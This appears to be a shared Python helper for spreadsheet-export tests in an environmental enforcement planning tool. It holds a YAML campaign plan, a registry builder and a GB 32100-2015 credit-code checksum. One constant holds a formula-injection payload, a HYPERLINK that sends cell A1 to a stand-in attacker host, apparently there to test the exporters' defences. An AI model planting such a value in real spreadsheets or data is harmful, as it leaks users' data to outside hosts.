"""What the spreadsheet tests share: a one-county plan whose registry values are chosen to
be what a spreadsheet converts or runs (report_spreadsheets.py, report_csv_excel.py), and
the GB 32100-2015 credit code check character."""

PLAN = """\
plan: ss
title: 表格测试
timezone: Asia/Shanghai
issuer: {name: 某某市生态环境局}
roles:
  county: {title: 县环保局, per: jurisdiction}
  ent: {title: 企业, per: enterprise}
lifecycles:
  fix:
    initial: listed
    states: [listed, fixing, done, overdue]
    final: [done]
    events:
      start: {listed: fixing}
      verify: {fixing: done, overdue: done}
    deadline: {from: [listed, fixing], to: overdue}
phases:
  - id: p
    title: 阶段
    milestones:
      - id: rectification
        title: 限期整改
        owner: ent
        for: each enterprise
        where: {listed: true}
        due: {field: rectify_by}
        lifecycle: fix
"""
# a registry name a county's spreadsheet might hold: a live link in Excel/WPS if run
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


def registry(code, name, unit, person, pollutants, reason):
    """A registry of one county (a, 甲县) and one listed enterprise with these values."""
    def q(s):
        return "'" + s.replace("'", "''") + "'"
    return f"""\
jurisdictions:
  - {{id: a, name: 甲县, kind: county, email: [a@x.example]}}
enterprises:
  - id: {q(code)}
    name: {q(name)}
    jurisdiction: a
    industry: steel
    listed: true
    measure: closure
    rectify_by: 2017-06-30
    responsible_unit: {q(unit)}
    responsible_person: {q(person)}
    email: [e@x.example]
    attrs: {{pollutants: {q(pollutants)}, reason: {q(reason)}}}
offices:
  admin: [admin@x.example]
"""


def credit_code(first17):
    """GB 32100-2015: the check character over the first 17 (weights 3^i mod 31)."""
    chars = "0123456789ABCDEFGHJKLMNPQRTUWXY"
    s = sum(chars.index(c) * pow(3, i, 31) for i, c in enumerate(first17))
    return first17 + chars[(31 - s % 31) % 31]
